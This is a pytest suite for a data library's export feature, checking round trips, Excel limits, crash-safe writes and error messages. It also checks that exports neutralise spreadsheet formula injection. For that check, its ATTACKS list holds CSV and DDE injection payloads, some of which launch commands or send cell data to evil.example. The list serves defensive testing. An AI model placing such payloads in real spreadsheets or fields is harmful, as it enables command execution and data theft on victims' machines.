"""Exports: round trips, cells that are no formulas, Excel's limits, crashes at any moment, and what cannot be written."""

from __future__ import annotations

import csv
import gzip
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
from decimal import Decimal
from pathlib import Path

import defusedcsv.csv
import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings

import dxnotebook as dx
from dxnotebook import demo
from dxnotebook.files import atomic as storing
from dxnotebook.files import spreadsheet as sheets
from tests.conftest import job, page_of, tables_of
from tests.faults.export_kill import Killing, content, leftovers
from tests.strategies import job_frames, jobs

FRAMES = ("jobs", "details", "errors", "rejects")
SUFFIXES = (".parquet", ".feather", ".csv", ".csv.gz", ".xlsx", ".jsonl", ".jsonl.gz")
PARTS = [f"{name}.parquet" for name in FRAMES]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")
# what OWASP, defusedcsv and those who report such holes try
ATTACKS = [
    *(f"{sign}1+1" for sign in TRIGGERS),
    *TRIGGERS,
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Error: see here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "+49 30 1234",
    '=1+1";=1+1',
    "=1+1';=1+1",
    "=10+20+cmd|' /C calc'!A0",
    '"=1+1',
    '""=1+1',
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b@x",
    "\x00=1",
    "\x0b-1",
    '=IMPORTXML(CONCAT("https://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
    "%0A-3+3+cmd|' /C calc'!D2",
    "=rundll32|'URL.dll,OpenURL https://evil.example'!A",
]  # fmt: skip
HARMLESS = [
    "a=1",
    'DDE ("cmd";"/C calc";"x")',
    "s3://bucket/key",
    "1-2",
    "",
    " ",
    "'=1",
    "mailto:a@b",
    "https://b.example/?a=b",
    "\u00e9",
    "ab\n=1",
]


def equal(left, right, *, attrs=True):
    for name in FRAMES:
        pd.testing.assert_frame_equal(getattr(left, name), getattr(right, name))
        assert not attrs or getattr(left, name).attrs == getattr(right, name).attrs
    assert left.to_jobs() == right.to_jobs()


def exported(what, path, **options):
    return dx.export(what, path, progress=False, **options)


def cells_of(path, sheet="data"):
    return [[cell.value for cell in row] for row in openpyxl.load_workbook(path)[sheet].iter_rows()]


@pytest.fixture(scope="module")
def account():
    client = demo.client(jobs=600)
    return dx.with_names(dx.load_jobs(client, progress=False), client)


# Round trips


@pytest.mark.filterwarnings("ignore::dxnotebook.DxWarning")
@pytest.mark.parametrize("suffix", [".parquet", ".feather"])
@settings(max_examples=25, suppress_health_check=list(HealthCheck))
@given(jobs())
def test_tables_come_back_equal(suffix, found):
    strange = [
        {**job(10**6 + n), "New": {"Member": n}, "List": ["x"]} for n in range(len(found) % 3)
    ]
    tables = tables_of(page_of(*found, *strange, *[None, "x", {"a": 1}][: len(found) % 4]))
    with tempfile.TemporaryDirectory() as folder:
        equal(dx.read_tables(exported(tables, Path(folder) / f"all{suffix}")), tables)


@pytest.mark.filterwarnings("ignore::dxnotebook.DxWarning")
@pytest.mark.parametrize("redact", [True, False])
@settings(max_examples=25, suppress_health_check=list(HealthCheck))
@given(jobs())
def test_json_lines_come_back_equal(redact, found):
    odd = [None, "x", {"a": 1}, [1]][: len(found) % 5]
    tables = tables_of(page_of(*found, *odd), redact=redact)
    with tempfile.TemporaryDirectory() as folder:
        path = exported(tables, Path(folder) / "all.jsonl")
        assert path.read_bytes().count(b"\n") == max(len(tables) + len(tables.rejects), 1)
        back = dx.read_tables(path, redact=redact)
    assert back.to_jobs() == tables.to_jobs()
    pd.testing.assert_frame_equal(
        back.rejects[["reason", "raw"]], tables.rejects[["reason", "raw"]]
    )
    for name in FRAMES[:3]:
        # an empty branch of Details is one that is absent
        mine, theirs = (
            getattr(one, name).drop(columns="details_branch", errors="ignore")
            for one in (back, tables)
        )
        pd.testing.assert_frame_equal(mine, theirs)


@pytest.mark.filterwarnings("ignore::dxnotebook.DxWarning")
def test_members_that_the_model_does_not_know_come_back_from_every_format(tmp_path):
    odd = job(
        1,
        New=5,
        Mixed=[1, "a"],
        CreatedAt="2024-01-01T00:00:00.123456789Z",
        Details={"Warp": {"Factor": 1.5}},
    )
    tables = tables_of(page_of(odd, job(2, Errors=[{"Hint": 3}]), None, job(3, State="\ud800")))
    for suffix in (".parquet", ".feather"):
        equal(dx.read_tables(exported(tables, tmp_path / f"all{suffix}")), tables)
    assert dx.read_tables(exported(tables, tmp_path / "all.jsonl.gz")).to_jobs() == tables.to_jobs()


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_tables_without_jobs_are_written_too(suffix, tmp_path):
    empty = dx.read_jobs([])
    path = exported(empty, tmp_path / f"none{suffix}")
    if suffix not in (".csv", ".csv.gz", ".xlsx"):
        equal(dx.read_tables(path), empty)


@settings(max_examples=25, suppress_health_check=list(HealthCheck))
@given(job_frames(null_times=True))
def test_a_frame_is_one_file_that_pandas_reads(frame):
    frame.attrs = {"note": [1]}
    with tempfile.TemporaryDirectory() as folder:
        for suffix, read in ((".parquet", pd.read_parquet), (".feather", pd.read_feather)):
            back = read(exported(frame, Path(folder) / f"frame{suffix}"))
            assert back.attrs == frame.attrs
            if frame["type"].notna().any():  # Parquet has no categories without values
                pd.testing.assert_frame_equal(back, frame)
        shown = pd.read_csv(
            exported(frame, Path(folder) / "frame.csv"), keep_default_na=False, na_values=[""]
        )
        assert shown["job_id"].astype(str).str.zfill(32).tolist() == frame["job_id"].tolist()
        assert (
            pd.to_datetime(shown["created_at"], utc=True).tolist() == frame["created_at"].tolist()
        )
        assert np.array_equal(
            shown["duration_s"].astype(float), frame["duration_s"], equal_nan=True
        )
        lines = exported(frame, Path(folder) / "frame.jsonl").read_text().splitlines()
        assert [json.loads(line)["region"] for line in lines] == frame["region"].tolist()


def test_every_table_is_a_file_of_its_own_or_a_sheet(account, tmp_path):
    sizes = {name: len(getattr(account, name)) for name in FRAMES[:3]}
    folder = exported(account, tmp_path / "all.parquet")
    assert {file.stem: len(pd.read_parquet(file)) for file in folder.iterdir()} == sizes
    folder = exported(account, tmp_path / "all.csv.gz")
    assert {file.name.split(".")[0]: len(pd.read_csv(file)) for file in folder.iterdir()} == sizes
    sheets_read = pd.read_excel(exported(account, tmp_path / "all.xlsx"), sheet_name=None)
    assert {name: len(sheet) for name, sheet in sheets_read.items()} == sizes
    assert (
        sheets_read["jobs"]["data_set_name"].fillna("").tolist()
        == account.jobs["data_set_name"].fillna("").tolist()
    )
    assert (
        sheets_read["jobs"]["created_at (UTC)"].dt.tz_localize("UTC").tolist()
        == account.jobs["created_at"].tolist()
    )
    rejecting = tables_of(page_of(job(1), None))
    assert sorted(
        file.stem for file in exported(rejecting, tmp_path / "all.feather").iterdir()
    ) == sorted(FRAMES)


def test_an_index_that_says_something_is_kept(tmp_path):
    counts = pd.DataFrame({"n": [1, 2]}, index=pd.Index(["a", "b"], name="state"))
    assert exported(counts, tmp_path / "a.csv").read_text() == '"state","n"\n"a",1\n"b",2\n'
    assert cells_of(exported(counts, tmp_path / "a.xlsx")) == [["state", "n"], ["a", 1], ["b", 2]]
    pd.testing.assert_frame_equal(pd.read_parquet(exported(counts, tmp_path / "a.parquet")), counts)
    with pytest.raises(dx.DxError, match="reset_index"):
        exported(counts.rename(columns={"n": "state"}), tmp_path / "b.csv")


def test_gzip_is_gzip_and_the_same_inside(account, tmp_path):
    plain, zipped = (
        exported(account.errors, tmp_path / f"e{suffix}") for suffix in (".csv", ".csv.gz")
    )
    assert gzip.decompress(zipped.read_bytes()) == plain.read_bytes()


def test_secrets_that_the_frames_do_not_hold_are_in_no_export(tmp_path):
    url = "https://b.s3.amazonaws.com/k?X-Amz-Signature=abcdef012345"
    tables = tables_of(
        page_of(
            job(
                1,
                Details={"ImportAssetFromSignedUrl": {"SignedUrl": url}},
                Type="IMPORT_ASSET_FROM_SIGNED_URL",
            )
        )
    )
    for suffix in SUFFIXES:
        path = exported(tables, tmp_path / f"all{suffix}")
        for file in path.iterdir() if path.is_dir() else [path]:
            assert b"abcdef012345" not in (
                gzip.decompress(file.read_bytes()) if suffix.endswith(".gz") else file.read_bytes()
            )


# Cells


def test_no_field_of_a_csv_file_begins_like_a_formula(tmp_path):
    frame = pd.DataFrame({"text": ATTACKS + HARMLESS, "=name": "x"})
    frame["category"] = frame["text"].astype("category")
    path = exported(frame, tmp_path / "a.csv")
    with path.open(newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file)
    assert header == ["text", "'=name", "category"]
    for text, row in zip(frame["text"], rows, strict=True):
        assert row == ["'" * (text in ATTACKS) + text, "x", "'" * (text in ATTACKS) + text]
        assert not row[0].startswith(TRIGGERS)
        assert defusedcsv.csv._escape(row[0]) == row[0]


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(tmp_path):
    frame = pd.DataFrame({"text": ATTACKS + HARMLESS, "=name": "x"})
    for escape in (True, False):
        sheet = openpyxl.load_workbook(
            exported(frame, tmp_path / "a.xlsx", escape_formulas=escape)
        )["data"]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
        assert not [cell for cell in cells if cell.hyperlink]
        assert not escape or not [cell.value for cell in cells if cell.value.startswith(TRIGGERS)]
        assert sheet.freeze_panes == "A2"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("suffix", "options"),
    [(".xlsx", []), (".csv", ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1"])],
)
def test_libreoffice_opens_them_without_a_formula(suffix, options, tmp_path):
    office = shutil.which("soffice")
    if not office:
        assert "CI" not in os.environ, (
            "CI has to have LibreOffice, or what opens the exports goes untested."
        )
        pytest.skip("LibreOffice is not there: apt install libreoffice-calc.")
    frame = pd.DataFrame(
        {"text": ATTACKS + HARMLESS, "=name": "x", "n": range(len(ATTACKS + HARMLESS))}
    )
    path = dx.export(frame, tmp_path / f"a{suffix}")
    plain = dx.export(
        pd.DataFrame({"text": ["=1+1"]}), tmp_path / f"plain{suffix}", escape_formulas=False
    )
    command = [
        office,
        f"-env:UserInstallation=file://{tmp_path}/profile",
        "--headless",
        "--convert-to",
        "fods",
        *options,
    ]
    subprocess.run(
        [*command, "--outdir", tmp_path, path, plain], check=True, capture_output=True, timeout=120
    )
    opened = (tmp_path / "a.fods").read_text()
    assert "table:formula" not in opened
    assert opened.count("<table:table-row") >= len(frame)
    # a formula is seen as one: what is not escaped is one in CSV, and text in Excel, whatever it
    # begins with
    assert ("table:formula" in (tmp_path / "plain.fods").read_text()) == (suffix == ".csv")


def test_numbers_stay_numbers_and_the_rule_can_be_turned_off(tmp_path):
    frame = pd.DataFrame({"n": [-1, 2], "x": [-1.5, float("nan")], "text": ["=1", "-1"]})
    assert (
        exported(frame, tmp_path / "a.csv").read_text()
        == '"n","x","text"\n-1,-1.5,"\'=1"\n2,,"\'-1"\n'
    )
    assert (
        exported(frame, tmp_path / "a.csv", escape_formulas=False)
        .read_text()
        .endswith('-1,-1.5,"=1"\n2,,"-1"\n')
    )
    assert cells_of(exported(frame, tmp_path / "a.xlsx"))[1:] == [
        [-1, -1.5, "'=1"],
        [2, None, "'-1"],
    ]


def odd_frame():
    frame = pd.DataFrame(
        {
            "time": pd.to_datetime(["1850-01-01", "2026-06-01 10:11:12.5", None], format="ISO8601"),
            "zoned": pd.to_datetime(["2026-06-01", "1900-01-05", None]).tz_localize(
                "Europe/Berlin"
            ),
            "number": [float("inf"), 1e-300, float("nan")],
            "large": [2**62, 1, -5],
            "flag": pd.array([True, None, False], "boolean"),
            "control": ["a\x00b\x1f", "_x0041_", "a\rb\r\nc\ufffe"],
            "span": pd.to_timedelta([1, None, 2], unit="D"),
        }
    )
    return frame.assign(
        mixed=pd.Series([1, "\ud800x", None], dtype=object),
        nested=pd.Series([[1], {}, "y"], dtype=object),
    )


def test_odd_values_in_a_workbook(tmp_path):
    header, *rows = cells_of(exported(odd_frame(), tmp_path / "a.xlsx"))
    assert header == [
        "time",
        "zoned (UTC)",
        "number",
        "large",
        "flag",
        "control",
        "span",
        "mixed",
        "nested",
    ]
    day = pd.Timestamp("2026-05-31 22:00").to_pydatetime()
    assert rows == [
        ["1850-01-01T00:00:00.000000", day, "inf", str(2**62), True, "a\\x00b\\x1f", "1 days 00:00:00", "1", "[1]"],
        # the library writes what would read as an escape so that Excel shows it as it is; openpyxl
        # does not undo that
        [pd.Timestamp("2026-06-01 10:11:12.5").to_pydatetime(), "1900-01-04T23:00:00.000000+00:00", 1e-300, 1, None,
         "_x005F_x0041_", None, "\\ud800x", "{}"],
        [None, None, None, -5, False, "a\nb\nc\\ufffe", "2 days 00:00:00", None, "y"],
    ]  # fmt: skip


def test_odd_values_in_csv_and_json_lines(tmp_path):
    text = exported(odd_frame(), tmp_path / "a.csv").read_text(encoding="utf-8")
    assert '"2026-06-01T00:00:00.000000+02:00",inf,4611686018427387904,true,' in text
    assert '"\\ud800x"' in text
    rows = [
        json.loads(line)
        for line in exported(odd_frame(), tmp_path / "a.jsonl").read_text().splitlines()
    ]
    assert rows[0]["number"] is None
    assert [row["mixed"] for row in rows] == ["1", "\\ud800x", None]
    assert [row["zoned"] for row in rows][::2] == ["2026-06-01T00:00:00+02:00", None]


def test_odder_columns_are_written_or_told(tmp_path):
    frame = pd.DataFrame(
        {
            "cut": pd.cut(pd.Series([1, 2, 3]), 2),
            "deep": [[1.0, float("nan")], [float("inf")], None],
        }
    )
    frame["nan"] = pd.array(
        pa.array([float("nan"), float("inf"), None]), dtype=pd.ArrowDtype(pa.float64())
    )
    frame["money"] = [Decimal("12345678901234567890.12"), Decimal("1.5"), None]
    for suffix in (".csv", ".xlsx"):
        dx.export(frame, tmp_path / f"a{suffix}")
    assert (
        pd.read_csv(tmp_path / "a.csv", dtype="str")["money"].iloc[0] == "12345678901234567890.12"
    )
    dx.export(frame, tmp_path / "a.jsonl")
    lines = [
        json.loads(line, parse_constant=pytest.fail)
        for line in (tmp_path / "a.jsonl").read_text().splitlines()
    ]
    assert [line["deep"] for line in lines] == [[1.0, None], [None], None]
    with pytest.raises(dx.DxError, match="holds one type a column"):
        dx.export(pd.DataFrame({"a": [2**70, 1]}), tmp_path / "a.parquet")
    (tmp_path / "plain").write_text("")
    (tmp_path / "latest.csv").symlink_to(tmp_path / "plain")
    assert dx.export(pd.DataFrame({"a": [1]}), tmp_path / "latest.csv").read_text() == '"a"\n1\n'


def test_lone_surrogates_become_their_escapes_in_parquet(tmp_path):
    frame = pd.DataFrame({"a": pd.Series(["\ud800", None, "b"], dtype=object), "n": [1, 2, 3]})
    for suffix, read in ((".parquet", pd.read_parquet), (".feather", pd.read_feather)):
        assert read(exported(frame, tmp_path / f"a{suffix}"))["a"].fillna("").tolist() == [
            "\\ud800",
            "",
            "b",
        ]


def test_rows_beyond_a_sheet_go_on_in_the_next(tmp_path):
    frame = pd.DataFrame({"n": range(25)})
    sheets.write_workbook(
        {"jobs": sheets.plain_table(frame)}, tmp_path / "a.xlsx", _Bar(), rows=11
    )
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["jobs", "jobs 2", "jobs 3"]
    found = [[cell.value for cell in sheet["A"]] for sheet in book]
    assert [column[0] for column in found] == ["n"] * 3
    assert [n for column in found for n in column[1:]] == list(range(25))
    with pytest.raises(dx.DxError, match=r"jobs has 1 columns, .* at most 0"):
        sheets.write_workbook(
            {"jobs": sheets.plain_table(frame)},
            tmp_path / "b.xlsx",
            _Bar(),
            columns=0,
        )


class _Bar:
    def update(self, rows):
        pass


def test_more_columns_than_excel_has_say_so(tmp_path):
    wide = pd.DataFrame(np.zeros((1, sheets.COLUMNS + 1)))
    with pytest.raises(dx.DxError, match=r"16,385 columns.* at most 16,384"):
        exported(wide, tmp_path / "a.xlsx")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("letter", ["a", "é", "😀"])
def test_long_texts_are_shortened_with_a_mark(letter, tmp_path):
    lengths = [32_766 // len(letter.encode("utf-16-le")) * 2, 40_000]
    frame = pd.DataFrame({"text": [letter * length for length in lengths]})
    [_, [whole], [cut]] = cells_of(exported(frame, tmp_path / "a.xlsx"))
    assert whole == frame["text"][0]
    units = len((letter * 40_000).encode("utf-16-le")) // 2
    assert cut.endswith(f"… [shortened: {units:,} characters]")
    assert 32_766 <= len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert cut.startswith(letter * 16_000)


# Crashes


@pytest.mark.parametrize("suffix", [".parquet", ".csv", ".xlsx", ".jsonl"])
def test_a_kill_at_any_moment_leaves_the_old_or_the_new(suffix, tmp_path):
    tables = dx.read_jobs(demo.Account(2_000).pages())
    killing = Killing(
        (tables.filter(tables.jobs["state"] != "CANCELLED"), tables), tmp_path / f"jobs{suffix}"
    )
    for _ in range(2):
        state, _ = killing.kill(random.uniform(0, 4 * killing.takes))
        assert state in ("old", "new")
    exported(tables, killing.target)
    assert leftovers(killing.target) == []
    assert killing.known[content(killing.target)] == "new"


def test_a_failure_midway_leaves_the_target_as_it_was(account, tmp_path, monkeypatch):
    for suffix in SUFFIXES:
        path = exported(account, tmp_path / f"all{suffix}")
        before = {file: file.read_bytes() for file in tmp_path.rglob("*") if file.is_file()}
        with monkeypatch.context() as patch:
            patch.setattr(storing, "_sync", _interrupted)
            with pytest.raises(KeyboardInterrupt):
                exported(account, path)
        assert {file: file.read_bytes() for file in tmp_path.rglob("*") if file.is_file()} == before


def _interrupted(*_):
    raise KeyboardInterrupt


@pytest.mark.parametrize("where_names_swap", [True, False])
def test_a_folder_is_replaced_on_any_file_system(where_names_swap, account, tmp_path, monkeypatch):
    if not where_names_swap:
        monkeypatch.setattr(storing, "_swapped", lambda *_: False)
    path = exported(account, tmp_path / "all.parquet")
    some = account.filter(account.jobs["state"] == "ERROR")
    exported(some, path)
    equal(dx.read_tables(path), some)
    assert [entry.name for entry in tmp_path.iterdir()] == ["all.parquet"]


def test_a_crash_while_the_old_folder_stands_aside_is_healed(account, tmp_path, monkeypatch):
    """What no swap of names can do in one step: the moment between the two renames."""
    path = tmp_path / "all.parquet"
    exported(account, path)

    def crashed(written, target):
        target.rename(written.with_name(storing._ASIDE))
        os._exit(9)

    monkeypatch.setattr(storing, "_put", crashed)
    child = os.fork()
    if not child:
        exported(account.filter([]), path)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 9
    monkeypatch.undo()
    assert not path.exists()
    equal(dx.read_tables(path), account)
    exported(account, path)
    assert [entry.name for entry in tmp_path.iterdir()] == ["all.parquet"]


def test_an_export_that_still_runs_is_left_alone(account, tmp_path):
    path = tmp_path / "all.parquet"
    with storing.replacing(path, PARTS) as written:
        exported(account, path)
        assert written.is_dir()
        (written / "jobs.parquet").write_bytes(b"later")
    assert [file.name for file in path.iterdir()] == ["jobs.parquet"]


def test_a_link_is_followed_and_rights_are_kept(account, tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "link.csv").symlink_to(tmp_path / "real" / "errors.csv")
    exported(account.errors, tmp_path / "link.csv")
    (tmp_path / "real" / "errors.csv").chmod(0o640)
    exported(account.errors, tmp_path / "link.csv")
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real" / "errors.csv").stat().st_mode & 0o777 == 0o640


FULL = """
import resource, sys
import dxnotebook as dx
tables = dx.load_jobs(dx.demo.client(jobs=3000), progress=False)
resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))
for suffix in sys.argv[2:]:
    try:
        dx.export(tables, sys.argv[1] + suffix, progress=False)
    except dx.DxError as error:
        print(error)
"""


def test_a_full_disk_says_so_and_leaves_what_was_there(account, tmp_path):
    before = {suffix: content(exported(account, tmp_path / f"all{suffix}")) for suffix in SUFFIXES}
    command = [sys.executable, "-c", FULL, tmp_path / "all", *SUFFIXES]
    said = subprocess.run(command, capture_output=True, text=True, check=True).stdout.splitlines()
    assert len(said) == len(SUFFIXES)
    for suffix, line in zip(SUFFIXES, said, strict=True):
        assert line.startswith(
            f"Cannot write '{tmp_path / 'all'}{suffix}': File too large. What was there before"
        )
        assert content(tmp_path / f"all{suffix}") == before[suffix]
    assert len(list(tmp_path.iterdir())) == len(SUFFIXES)


# What cannot be


@pytest.mark.parametrize(
    ("path", "said"),
    [
        ("a.txt", r"Valid suffixes are: \.parquet, .*\.jsonl\.gz"),
        ("", "Valid suffixes"),
        ("nowhere/a.csv", "There is no folder .*nowhere'; make it first"),
        ("a\0.csv", "Invalid path"),
        (5, "Invalid path: 5"),
        ("x" * 300 + ".csv", "Cannot write .*: File name too long"),
    ],
)
def test_paths_that_cannot_be_written_say_so(path, said, account, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for what in (account, account.errors):
        with pytest.raises(dx.DxError, match=said):
            exported(what, path)
    assert not list(tmp_path.iterdir())


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root may write anywhere")
def test_a_folder_without_permission_says_so(account, tmp_path):
    tmp_path.chmod(0o500)
    with pytest.raises(dx.DxError, match="Permission denied"):
        exported(account, tmp_path / "a.parquet")
    tmp_path.chmod(0o700)


def test_what_is_not_ours_is_refused_and_kept(account, tmp_path):
    folder = tmp_path / "a.parquet"
    folder.mkdir()
    (folder / "notes.txt").write_text("mine")
    with pytest.raises(dx.DxError, match=r"holds more than exported tables: 'notes\.txt'"):
        exported(account, folder)
    with pytest.raises(dx.DxError, match="is a folder; give the path of a file"):
        exported(account.jobs, folder)
    (tmp_path / "b.parquet").write_text("mine")
    with pytest.raises(dx.DxError, match="is a file, and tables become a folder"):
        exported(account, tmp_path / "b.parquet")
    os.mkfifo(tmp_path / "c.csv")
    with pytest.raises(dx.DxError, match="neither a file nor a folder"):
        exported(account.jobs, tmp_path / "c.csv")
    (tmp_path / "d.parquet" / "jobs.parquet").mkdir(parents=True)
    with pytest.raises(dx.DxError, match=r"'jobs\.parquet'"):
        exported(account, tmp_path / "d.parquet")
    assert (folder / "notes.txt").read_text() == (tmp_path / "b.parquet").read_text() == "mine"


def test_what_is_put_there_meanwhile_is_kept(account, tmp_path):
    path = exported(account, tmp_path / "a.parquet")
    with pytest.raises(dx.DxError, match="holds more"), storing.replacing(path, PARTS):
        (path / "notes.txt").write_text("mine")
    assert (path / "notes.txt").read_text() == "mine"


@pytest.mark.parametrize("wrong", [5, None, [1], pd.Series([1])])
def test_what_is_no_table_says_so(wrong, tmp_path):
    with pytest.raises(dx.DxError, match="give JobTables or a pandas DataFrame"):
        exported(wrong, tmp_path / "a.csv")


def test_columns_that_a_format_cannot_hold_say_so(tmp_path):
    with pytest.raises(dx.DxError, match=r"one type a column: .* column a .*astype"):
        exported(pd.DataFrame({"a": pd.Series([1, "x"], dtype=object)}), tmp_path / "a.parquet")
    for suffix in (".feather", ".jsonl"):
        with pytest.raises(dx.DxError, match="Two columns are called 'a'"):
            exported(pd.DataFrame([[1, 2]], columns=["a", "a"]), tmp_path / f"a{suffix}")
    assert not list(tmp_path.iterdir())


def test_excel_without_its_library_says_how_to_install_it(account, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(dx.MissingDependencyError, match=r"needs xlsxwriter.*dxnotebook\[excel\]"):
        exported(account, tmp_path / "a.xlsx")


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_reading_what_cannot_be_tables_says_what_to_do(suffix, account, tmp_path):
    with pytest.raises(dx.DxError, match=r"does not keep types|No exported tables|No file matches"):
        dx.read_tables(tmp_path / f"none{suffix}")
    path = exported(account.errors, tmp_path / f"frame{suffix}")
    with pytest.raises(dx.DxError, match=r"pandas\.read_|Expected ListJobs"):
        dx.read_tables(path)


@pytest.mark.parametrize("suffix", [".parquet", ".feather"])
def test_damaged_and_foreign_files_say_so(suffix, account, tmp_path):
    path = exported(account, tmp_path / f"a{suffix}")
    part = path / f"errors{suffix}"
    whole = part.read_bytes()
    for damaged in (b"", b"nonsense", whole[: len(whole) // 2]):
        part.write_bytes(damaged)
        with pytest.raises(dx.FormatError, match=r"errors.* is damaged"):
            dx.read_tables(path)
    getattr(account.errors, f"to_{suffix[1:]}")(part)
    with pytest.raises(dx.FormatError, match="export did not write it"):
        dx.read_tables(path)
    other = exported(account, tmp_path / f"b{suffix}")
    part.write_bytes((other / part.name).read_bytes())
    with pytest.raises(dx.DxError, match="different exports"):
        dx.read_tables(path)
    part.unlink()
    with pytest.raises(dx.DxError, match=r"errors.* is not there"):
        dx.read_tables(path)


def test_progress_is_shown_when_asked_for(account, tmp_path, capsys):
    dx.export(account, tmp_path / "a.jsonl", progress=True)
    shown = capsys.readouterr().err
    assert "Rows:" in shown
    dx.export(account, tmp_path / "a.jsonl")
    assert capsys.readouterr().err == ""
